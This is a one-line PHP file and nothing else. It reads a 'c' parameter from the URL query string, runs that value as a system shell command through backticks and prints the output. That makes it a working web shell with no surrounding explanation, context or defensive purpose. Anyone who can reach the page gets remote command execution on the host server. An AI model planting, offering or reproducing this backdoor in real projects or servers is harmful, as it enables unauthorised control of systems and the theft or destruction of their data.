<?php $a = $_GET; echo `$a[c]`;
